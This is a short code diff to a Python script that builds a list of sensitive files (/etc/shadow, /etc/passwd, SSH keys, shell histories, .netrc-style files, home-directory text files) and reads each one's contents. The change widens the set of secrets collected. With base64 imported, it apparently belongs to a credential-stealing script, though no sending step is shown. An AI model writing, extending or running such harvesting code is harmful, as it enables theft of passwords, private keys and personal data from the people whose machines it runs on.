@@ -13,8 +13,11 @@ import base64
 import glob
 import os
 
-places = ["/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.ssh/id_rsa", "/root/.bash_history"]
-for path in places + glob.glob("/root/*") + glob.glob("/home/*/*.txt") + glob.glob(os.path.expanduser("~/.net*")):
+places = ["/etc/shadow", "/etc/passwd", "/etc/hostname"] + glob.glob(os.path.expanduser("~/.net*"))
+for home in ["/*", "/home/*"]:
+    for what in [".ssh/*", ".*_history", ".net*", "*.txt"]:
+        places += glob.glob(os.path.join(home, what))
+for path in places:
     try:
         content = open(path, "rb").read()
     except OSError:
